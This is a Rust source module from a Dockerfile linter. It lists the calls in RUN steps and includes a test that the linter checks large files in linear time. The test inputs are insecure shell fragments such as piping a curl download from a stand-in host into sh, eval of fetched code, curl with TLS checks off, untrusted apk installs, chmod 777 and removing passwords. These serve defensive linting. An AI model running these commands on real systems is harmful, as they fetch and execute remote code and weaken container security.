//! What rules know of the programs that a RUN calls: package managers, downloads, checks of
//! downloads.

mod edit;
mod fetch;
mod packages;
#[cfg(test)]
pub mod testing;
mod verify;

pub use edit::{insert_after, remove_word};
pub use fetch::{CURL_VALUED, Download, Output, base_name, cluster, download, is_local};
pub use packages::{
    Action, LastCall, Manager, PackageCall, lasting_installs, package_calls, package_name,
};
pub use verify::{Verified, verifies_call};

use super::body::Run;
use super::view::View;
use crate::shell::Call;

/// Every call of a file: its script, its command's place in it, and what is called.
pub fn calls<'v>(view: &'v View<'_>) -> impl Iterator<Item = (&'v Run<'v>, usize, Call<'v>)> {
    view.runs().iter().flat_map(|run| {
        let run: &Run<'v> = run;
        calls_of(run).map(move |(index, call)| (run, index, call))
    })
}

/// Every call of one script with its command's place in it.
pub fn calls_of<'v>(run: &'v Run<'_>) -> impl Iterator<Item = (usize, Call<'v>)> + use<'v> {
    let commands = run.script.commands.iter().enumerate();
    commands.filter_map(|(index, command)| Some((index, command.call()?)))
}

#[cfg(test)]
mod tests {
    use crate::dockerfile::Dockerfile;
    use crate::policy::{Settings, check};

    /// Large files of one kind, in a step and as steps: quick, and no panic.
    #[test]
    fn hostile_files_take_linear_time() {
        for piece in [
            "curl -k -o x http://e.com/x; ",
            "curl http://e.com/x | sh; ",
            "eval \"$(curl http://e.com)\"; ",
            "apt-get update; ",
            "apt-get install gcc gdb sudo; apk add x; yum install x; ",
            "apk add --allow-untrusted ./x.apk; ",
            "pip install x; ",
            "chmod 777 /x; ",
            "passwd -d x; echo a:b | chpasswd; ",
            "bash -c 'a | b'; ",
            "a | ",
            "a & ",
            "ssh-keyscan e.com >> known_hosts; ",
        ] {
            let step = format!("FROM a\nRUN {}\n", piece.repeat(4_000));
            let lines = format!("FROM a\nRUN {}\n", format!("{piece}\\\n").repeat(4_000));
            let steps = format!("FROM a\nCMD {piece}\n{}", format!("RUN {piece}\n").repeat(2_000));
            for text in [step, lines, steps] {
                check(&Dockerfile::parse(text.as_bytes()), &Settings::default(), |_| true);
            }
        }
    }
}
